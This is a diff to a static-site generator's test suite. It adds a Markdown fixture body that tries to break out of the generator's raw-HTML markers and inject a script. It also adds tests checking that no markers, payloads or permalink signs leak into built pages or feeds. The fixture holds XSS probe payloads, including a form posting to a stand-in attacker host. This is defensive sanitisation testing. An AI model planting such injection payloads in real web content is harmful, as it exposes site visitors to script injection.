@@ -48,6 +48,12 @@ A paragraph with a handler.
 <form action="https://evil.example/{MARK}"><input name="p"></form>
 <!-- <script>alert({MARK})</script> -->
 
+<!-- /d5site:html -->
+
+<p>A body that tries to end the page's HTML run <script>alert({MARK})</script></p>
+
+<!-- d5site:html -->
+
 ## Method {{ #method }}
 
 The <abbr title="Organisation for Economic Co-operation and Development">OECD</abbr> helped.
@@ -128,6 +134,23 @@ def test_no_payload_in_any_page_index_or_feed(built: tuple[Path, BuiltSite]) -> 
     assert found == []
     # The payloads were there to be removed: some of them do show, as harmless text, where Markdown kept them as text.
     assert any(MARK in p.read_text("utf-8") for p in outputs if p.name == "index.html")
+
+
+def test_no_html_run_marker_reaches_any_output(built: tuple[Path, BuiltSite]) -> None:
+    """The markers of generated pages' HTML runs (d5site.render.rawhtml) and those a body carries never show."""
+    _, site = built
+    assert [p.relative_to(site.dir).as_posix() for p in _outputs(site) if "d5site:html" in p.read_text("utf-8")] == []
+
+
+def test_feed_entries_carry_the_body_without_permalink_signs(built: tuple[Path, BuiltSite]) -> None:
+    """The feed shares the pages' rendering of a body but leaves out the `toc` extension's permalink signs."""
+    _, site = built
+    for feed in ("feed.xml", "fr/feed.xml"):
+        text = (site.dir / feed).read_text("utf-8")
+        assert "Method" in text or "Méthode" in text
+        assert "headerlink" not in text and "¶" not in text
+    page = site.page("findings/2018/responsible-ai/")
+    assert page.article.find("a", cls="headerlink") is not None  # the page keeps them
 
 
 def test_no_unsafe_url_or_handler_in_any_page(built: tuple[Path, BuiltSite]) -> None:
